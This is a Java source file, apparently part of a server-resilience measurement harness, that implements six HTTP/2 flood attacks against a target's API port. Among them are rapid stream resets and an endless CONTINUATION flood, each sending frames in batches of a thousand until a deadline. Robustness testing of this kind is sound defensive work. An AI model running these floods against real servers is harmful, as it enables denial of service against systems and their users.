package dev.untether.measurement.attack;

import java.io.ByteArrayOutputStream;
import java.nio.ByteBuffer;
import java.util.List;
import java.util.function.IntFunction;

/** Floods of frames of HTTP/2 (RFC 9113), on connections that begin with the preface. */
final class Http2Attacks {
  private static final int HEADERS = 1;
  private static final int PRIORITY = 2;
  private static final int RST_STREAM = 3;
  private static final int SETTINGS = 4;
  private static final int PING = 6;
  private static final int WINDOW_UPDATE = 8;
  private static final int CONTINUATION = 9;
  private static final int END_STREAM = 1;
  private static final int END_HEADERS = 4;
  private static final int FRAMES_PER_WRITE = 1_000;
  private static final int CANCEL = 8;

  /** GET http://a/ (RFC 7541): three entries of the static table, and a name with its value. */
  private static final byte[] REQUEST = {
    (byte) 0x82, (byte) 0x84, (byte) 0x86, 0x41, 1, 'a',
  };

  private Http2Attacks() {}

  static List<Attack> all() {
    return List.of(
        flood("settings", frame -> frame(SETTINGS, 0, 0)),
        flood("ping", frame -> frame(PING, 0, 0, new byte[8])),
        flood("window-update", frame -> frame(WINDOW_UPDATE, 0, 0, number(1))),
        flood("priority", frame -> frame(PRIORITY, 0, 2 * frame + 1, new byte[] {0, 0, 0, 0, 15})),
        flood(
            "reset-streams",
            frame ->
                join(
                    frame(HEADERS, END_STREAM | END_HEADERS, 2 * frame + 1, REQUEST),
                    frame(RST_STREAM, 0, 2 * frame + 1, number(CANCEL)))),
        flood(
            "continuation",
            frame ->
                frame == 0 ? frame(HEADERS, END_STREAM, 1, REQUEST) : frame(CONTINUATION, 0, 1)));
  }

  private static Attack flood(String name, IntFunction<byte[]> frames) {
    return new Attack(
        "http2-" + name,
        "an endless flood of such frames on two connections",
        2,
        (target, deadline) -> {
          try (HostileSocket socket = HostileSocket.to(target.apiPort())) {
            socket.send("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n").send(frame(SETTINGS, 0, 0));
            int sent = 0;
            while (!deadline.isOver()) {
              ByteArrayOutputStream batch = new ByteArrayOutputStream();
              for (int frame = 0; frame < FRAMES_PER_WRITE; frame++) {
                batch.writeBytes(frames.apply(sent + frame));
              }
              sent += FRAMES_PER_WRITE;
              socket.send(batch.toByteArray()).drain();
            }
          }
        });
  }

  private static byte[] frame(int type, int flags, int stream, byte... payload) {
    return ByteBuffer.allocate(9 + payload.length)
        .put((byte) 0)
        .putShort((short) payload.length)
        .put((byte) type)
        .put((byte) flags)
        .putInt(stream)
        .put(payload)
        .array();
  }

  private static byte[] number(int value) {
    return ByteBuffer.allocate(4).putInt(value).array();
  }

  private static byte[] join(byte[] first, byte[] second) {
    return ByteBuffer.allocate(first.length + second.length).put(first).put(second).array();
  }
}
